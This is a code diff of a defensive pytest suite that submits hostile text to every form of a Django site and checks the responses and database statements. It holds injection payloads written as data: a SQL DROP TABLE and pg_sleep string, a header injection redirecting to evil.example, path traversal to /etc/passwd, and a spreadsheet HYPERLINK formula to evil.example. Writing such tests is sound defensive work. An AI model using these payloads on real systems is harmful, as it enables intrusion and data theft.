@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Iterator, Mapping
+from collections.abc import Callable, Iterator, Mapping
 from http.cookies import SimpleCookie
 from types import SimpleNamespace
 from typing import Any, NamedTuple
@@ -42,14 +42,16 @@ STATEMENT = "'; DROP TABLE families_person; --\\'); SELECT pg_sleep(9); --"
 HEADER = "name\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/\r\n\r\n<html>"
 PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
 FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
-UNSEEN = "a\x00b\x08c\u202egnp.exe\u200b\u2066\ufeff\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
-LONG = "x" * 120_000
 # Signs that are never meant in a text.
 UNMEANT = "\u00ad\u200b\u200e\u202e\u2060\u2066\ufeff\u3164"
+UNSEEN = f"a\x00b\x08c\u202egnp.exe{UNMEANT}\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
+# Within a word, which is a mailbox so that those are accepted too.
+IN_A_WORD = f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example"
+LONG = "x" * 120_000
 HOSTILE = {
     "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
     "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
-    "what can't be seen": UNSEEN,
+    "what can't be seen": f"{UNSEEN} {IN_A_WORD}",
     "very long": LONG,
 }
 # What is written about each request, and about each look.
@@ -92,6 +94,10 @@ def filled(form: forms.BaseForm, text: str) -> dict[str, Any]:
             data[name] = str(bound.value() or 1)
         elif isinstance(field, forms.BooleanField):
             data[name] = "on"
+        elif IN_A_WORD in text and isinstance(field, forms.EmailField):
+            data[name] = IN_A_WORD
+        elif IN_A_WORD in text and (getattr(field, "max_length", None) or len(text)) < len(text):
+            data[name] = UNSEEN
         else:
             data[name] = text
     return data
@@ -198,10 +204,41 @@ def accepted_without_leading_on(answer: Any) -> bool:
     return accepted and not any(form.answers_with_a_page for form in sent)
 
 
+def texts_in(value: Any) -> Iterator[str]:
+    """Return every text of a statement's parameters, those of JSON columns included."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, Mapping):
+        yield from (text for pair in value.items() for part in pair for text in texts_in(part))
+    elif isinstance(value, list | tuple | set):
+        yield from (text for part in value for text in texts_in(part))
+    elif hasattr(value, "obj"):
+        yield from texts_in(value.obj)
+
+
+class Carried:
+    """Reads every value that a page's statements carry: where a text arrived, and where with signs never meant."""
+
+    def __init__(self) -> None:
+        self.arrived: set[str] = set()
+        self.unmeant: set[tuple[str, str]] = set()
+
+    def of(self, name: str) -> Any:
+        def read(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
+            told = "".join(texts_in(params))
+            if MARK in told:
+                self.arrived.add(name)
+            if set(told) & set(UNMEANT) or any(f"\\u{ord(sign):04x}" in told for sign in UNMEANT):
+                self.unmeant.add((name, sql[:60]))
+            return execute(sql, params, many, context)
+
+        return connection.execute_wrapper(read)
+
+
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site, text):
-    """Submits each form of each page; response, redirect target and page stay harmless."""
-    found, sent = [], 0
+    """Submits each form of each page; response, redirect target and page stay harmless, and so do the statements."""
+    found, sent, carried = [], 0, Carried()
 
     def send(client: Client, address: str, data: dict[str, Any]) -> list[Any]:
         answer = client.post(address, data)
@@ -214,10 +251,12 @@ def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site,
         data: dict[str, Any] = {}
         for form in on_page:
             data |= filled(form, text)
-        answers = undone(lambda c=client, a=address, d=data: send(c, a, d), client)
+        with carried.of(name):
+            answers = undone(lambda c=client, a=address, d=data: send(c, a, d), client)
         sent += 1
         found += [(name, fault) for answer in answers for fault in wrong_with(answer)]
     assert (found, sent > 60, Family.objects.exists()) == ([], True, True)
+    assert (carried.unmeant, len(carried.arrived) > 40 or MARK not in text.replace(UNMEANT, "")) == (set(), True)
 
 
 @pytest.mark.parametrize("who", ["own coordinator", "service manager"])
@@ -242,7 +281,7 @@ def subclasses(kind: type) -> set[type]:
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_every_form_class_validates_hostile_text_without_crashing(text):
     """Includes forms of pages that this world does not show."""
-    tried = 0
+    tried, text = 0, text.removesuffix(IN_A_WORD)
     for kind in sorted(subclasses(GovukForm) | subclasses(GovukModelForm), key=lambda kind: kind.__qualname__):
         if kind in {GovukForm, GovukModelForm}:
             continue
@@ -288,55 +327,27 @@ def test_every_password_has_a_name_that_keeps_it_as_typed():
     assert ([name for name in named if "password" not in name], bool(named)) == ([], True)
 
 
-def texts_in(value: Any) -> Iterator[str]:
-    """Return every text of a statement's parameters, those of JSON columns included."""
-    if isinstance(value, str):
-        yield value
-    elif isinstance(value, Mapping):
-        yield from (text for pair in value.items() for part in pair for text in texts_in(part))
-    elif isinstance(value, list | tuple | set):
-        yield from (text for part in value for text in texts_in(part))
-    elif hasattr(value, "obj"):
-        yield from texts_in(value.obj)
-
-
-def test_nothing_invisible_reaches_the_database_from_any_form(forms_of_the_site):
-    """Submits each form of each page, and reads every value that a statement carries."""
-    carried, arrived = set(), set()
-
-    def reads(name: str) -> Any:
-        def read(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
-            told = "".join(texts_in(params))
-            if MARK in told:
-                arrived.add(name)
-            if set(told) & set(UNMEANT) or any(f"\\u{ord(sign):04x}" in told for sign in UNMEANT):
-                carried.add((name, sql[:60]))
-            return execute(sql, params, many, context)
-
-        return read
-
-    for name, address, client, on_page, _ in forms_of_the_site:
-        data: dict[str, Any] = {}
-        for form in on_page:
-            data |= filled(form, f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example")
-        with connection.execute_wrapper(reads(name)):
-            undone(lambda c=client, a=address, d=data: c.post(a, d), client)
-    assert (carried, len(arrived) > 40) == (set(), True)
-
-
 # The same form twice
 
 
-def count_rows() -> dict[str, int]:
-    """Return the number of rows of every table."""
+@pytest.fixture
+def count_rows(db: None) -> Iterator[Callable[[], dict[str, int]]]:
+    """Return what counts the rows of every table, by one statement that is planned once."""
     tables = connection.introspection.table_names()
     counts = " UNION ALL ".join(f"SELECT '{table}', count(*) FROM \"{table}\"" for table in tables)  # noqa: S608 (no input)
+
+    def count() -> dict[str, int]:
+        with connection.cursor() as cursor:
+            cursor.execute("EXECUTE rows_of_every_table")
+            return dict(cursor.fetchall())
+
     with connection.cursor() as cursor:
-        cursor.execute(counts)
-        return dict(cursor.fetchall())
+        cursor.execute(f"PREPARE rows_of_every_table AS {counts}")
+        yield count
+        cursor.execute("DEALLOCATE rows_of_every_table")
 
 
-def test_no_form_of_the_site_adds_anything_when_it_is_sent_again(world, forms_of_the_site):
+def test_no_form_of_the_site_adds_anything_when_it_is_sent_again(world, forms_of_the_site, count_rows):
     """Sends each form of each page as the browser would, and once more: the second adds no row to any table."""
     before = count_rows()
 
